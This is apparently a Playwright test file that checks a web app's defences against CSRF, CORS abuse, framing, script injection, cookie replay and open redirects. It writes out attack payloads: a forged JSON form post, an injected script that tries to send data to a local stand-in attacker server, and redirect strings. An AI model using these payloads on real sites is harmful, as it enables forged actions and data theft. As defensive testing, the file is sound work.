// Attacks by a page of another origin, a script in the page and a copied cookie: each has no effect and reads nothing.
import assert from 'node:assert/strict'
import { once } from 'node:events'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, test } from 'node:test'
import type { Page } from 'playwright-core'
import { owner, PASSWORD } from '../browser-like.ts'
import { allEvents, makeCustomer } from '../fixtures.ts'
import { world } from '../harness.ts'
import { counts, eventually, launch, needsChromium, sharedWindow, visit } from './browser.ts'

const w = await world({ after })
const chromium = await launch({ after })
const ownersWindow = sharedWindow(chromium, { after }, w)

/** The requests that the attacker's server received. */
const requested: string[] = []
const server = createServer((request, response) => {
  requested.push(String(request.url))
  response.setHeader('content-type', 'text/html').end('<title>Stranger</title><h1>Hello</h1>')
})
server.listen(0, '127.0.0.1')
await once(server, 'listening')
after(() => void server.close().closeAllConnections())
const { port } = server.address() as AddressInfo
/** One on the same site (ports are not part of a site), and one on another site. */
const STRANGERS = [`http://127.0.0.1:${port}`, `http://localhost:${port}`]
const SURFACE = `${w.url}/session/1/test/v1`

/** The part of a response that an attacker's page can read. */
const ask = (page: Page, path: string, init: object = {}): Promise<string> =>
  page.evaluate(`fetch(${JSON.stringify(path)}, { credentials: 'include', ...${JSON.stringify(init)} })
    .then(async (answer) => answer.type + ' ' + (await answer.text()), (error) => error.name)`)

for (const stranger of STRANGERS) {
  test(
    `a page of ${stranger.replace(/\d+$/, '…')} writes and reads nothing`,
    needsChromium,
    async (t) => {
      const { page, go } = await ownersWindow(t)
      const customer = await makeCustomer(w.api, { name: 'Private' })
      await go('customers')
      const events = await allEvents(w.api)
      const evil = await page.context().newPage()
      await evil.goto(stranger)

      // A form whose body is JSON, into a hidden frame.
      const [posted] = await Promise.all([
        evil.waitForResponse((answer) => answer.url() === `${SURFACE}/customers`),
        evil.evaluate(`(() => {
        document.body.insertAdjacentHTML('beforeend', '<iframe name=hidden></iframe>' +
          '<form method=post enctype=text/plain target=hidden action="${SURFACE}/customers">' +
          '<input name=\\'{"name":"Forged","city":"\\' value=\\'"}\\'></form>')
        document.querySelector('form').submit()
      })()`),
      ])
      assert.ok([401, 403].includes(posted.status()), String(posted.status()))

      const body = JSON.stringify({ name: 'Forged' })
      const json = { 'content-type': 'application/json' }
      const plain = { 'content-type': 'text/plain' }
      const answers = [
        await ask(evil, `${SURFACE}/customers`, { method: 'POST', body, headers: json }),
        await ask(evil, `${SURFACE}/customers`, { method: 'POST', body, headers: plain }),
        await ask(evil, `${SURFACE}/customers/${customer.id}`, { method: 'DELETE' }),
        await ask(evil, `${w.url}/session/v1/sessions`, { method: 'DELETE' }),
        await ask(evil, `${SURFACE}/customers`),
        await ask(evil, `${SURFACE}/customers.csv`),
        await ask(evil, `${w.url}/session/v1/sessions/current`),
      ]
      assert.deepEqual(
        answers,
        answers.map(() => 'TypeError'),
        'CORS refuses all',
      )
      // Without CORS the request is sent, but it is rejected and its response is not readable.
      const mute = { method: 'POST', mode: 'no-cors', body, headers: plain }
      assert.equal(await ask(evil, `${SURFACE}/customers`, mute), 'TypeError')
      assert.equal(await ask(evil, `${SURFACE}/customers`, { mode: 'no-cors' }), 'TypeError')
      const script = await evil.evaluate(`new Promise((tell) => {
      const script = document.createElement('script')
      Object.assign(script, { src: '${SURFACE}/customers', onload: () => tell('ran'), onerror: () => tell('refused') })
      document.body.append(script)
    })`)
      assert.equal(script, 'refused')

      assert.deepEqual(await allEvents(w.api), events, 'nothing happened')
      await page.reload()
      await page.getByRole('link', { name: 'Private' }).first().waitFor()
      await evil.close()
    },
  )

  test(
    `a page of ${stranger.replace(/\d+$/, '…')} can neither frame nor navigate ours`,
    needsChromium,
    async (t) => {
      const { page, go } = await ownersWindow(t)
      await go('customers')
      const evil = await page.context().newPage()
      await evil.goto(stranger)
      await evil.evaluate(
        `document.body.insertAdjacentHTML('beforeend', '<iframe src="${w.url}/1/test/customers"></iframe>')`,
      )
      await eventually(() => evil.frames().at(-1)?.url(), 'chrome-error://chromewebdata/')

      const [opened] = await Promise.all([
        page.context().waitForEvent('page'),
        evil.evaluate(`globalThis.ours = open('${w.url}/1/test/customers')`),
      ])
      await opened.getByRole('heading', { level: 1, name: 'Customers' }).waitFor()
      assert.equal(await opened.evaluate('opener'), null)
      // The handle is closed: the page can be neither messaged nor read.
      await eventually(() => evil.evaluate('globalThis.ours.closed'), true)
      await evil.evaluate(`globalThis.ours.postMessage({ type: 'navigate', to: '/sign-in' }, '*')`)
      await counts(opened.getByRole('heading', { level: 1, name: 'Customers' }), 1)
      await Promise.all([evil.close(), opened.close()])
    },
  )
}

test('an injected script reads no cookie and does not run', needsChromium, async (t) => {
  const { page } = await ownersWindow(t)
  const cookie = (await page.context().cookies()).find(({ name }) => name === '__Host-reckoner')
  const { name, httpOnly, secure, sameSite } = cookie ?? {}
  assert.deepEqual([name, httpOnly, secure, sameSite], ['__Host-reckoner', true, true, 'Lax'])
  // A page of its own, as violations of the policy are written to the console.
  const own = await page.context().newPage()
  await own.goto(`${w.url}/1/test/customers`)
  await own.getByRole('heading', { level: 1 }).waitFor()
  assert.equal(await own.evaluate('document.cookie'), '')
  const before = requested.length
  await own.evaluate(`(() => {
    globalThis.refused = []
    addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    const script = document.createElement('script')
    script.textContent = 'globalThis.ran = true'
    document.body.append(script)
    document.body.insertAdjacentHTML('beforeend', '<img src=data: onerror="globalThis.ran = true">' +
      '<img src="${STRANGERS[0]}/pixel"><form id=out method=post action="${STRANGERS[0]}/form"></form>')
    const foreign = document.createElement('script')
    foreign.src = '${STRANGERS[0]}/script.js'
    document.body.append(foreign)
    document.getElementById('out').submit()
    fetch('${STRANGERS[0]}/fetch').catch(() => undefined)
  })()`)
  const all = ['connect-src', 'form-action', 'img-src', 'script-src-attr', 'script-src-elem']
  await eventually(
    async () => [...new Set((await own.evaluate('refused')) as string[])].toSorted(),
    all,
  )
  assert.equal(await own.evaluate('globalThis.ran'), undefined)
  assert.deepEqual(requested.slice(before), [], 'nothing left the page')
  await own.close()
})

test('a copied cookie ends with its session', needsChromium, async (t) => {
  const { page, go, expect } = await ownersWindow(t)
  const cookies = await page.context().cookies()
  const session = cookies.find(({ name }) => !name.endsWith('-device'))
  const headers = { cookie: `${session?.name}=${session?.value}` }
  const replayed = () => w.api.get('/session/1/test/v1/customers', { key: null, headers })
  assert.equal((await replayed()).status, 200)
  // It works for its user's account only, and does not replace a key.
  const elsewhere = '/session/2/test/v1/customers'
  assert.equal((await w.api.get(elsewhere, { key: null, headers })).status, 404)
  assert.equal((await w.api.get('/v1/customers', { key: null, headers })).status, 401)
  await go('customers')
  await page.getByRole('button', { name: /^Profile:/ }).click()
  const ended = page.waitForResponse((answer) => answer.request().method() === 'DELETE')
  // Requests in flight are rejected.
  expect(401)
  await page.getByRole('button', { name: 'Sign out' }).click()
  await ended
  await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor()
  assert.equal((await replayed()).status, 401)
  // The known-device cookie gives no access, and stays.
  const left = (await page.context().cookies()).map(({ name }) => name)
  assert.deepEqual(left, ['__Host-reckoner-device'])

  await page.goBack()
  // The page requests the current session, and then loads the form.
  await page.waitForURL('**/sign-in?to=*')
  await page.context().addCookies(cookies)
  await page.goto(`${w.url}/1/test/customers`)
  await page.getByRole('heading', { level: 1, name: 'Sign in' }).waitFor()
})

test('signing in leads only to a page of ours', needsChromium, async (t) => {
  const { email } = await owner(w)
  const { page, expect } = await visit(chromium, t, w)
  expect(401)
  for (const to of [
    `//127.0.0.1:${port}/1/test`,
    `${STRANGERS[0]}/1/test`,
    '/\\localhost/1/test',
  ]) {
    await page.context().clearCookies()
    await page.goto(`${w.url}/sign-in?to=${encodeURIComponent(to)}`)
    await page.locator('input[name=email]').fill(email)
    await page.locator('input[name=password]').fill(PASSWORD)
    await page.locator('button[type=submit]').click()
    await page.waitForURL(`${w.url}/1/test`)
    await page.getByRole('heading', { level: 1, name: 'Home' }).waitFor()
  }
})
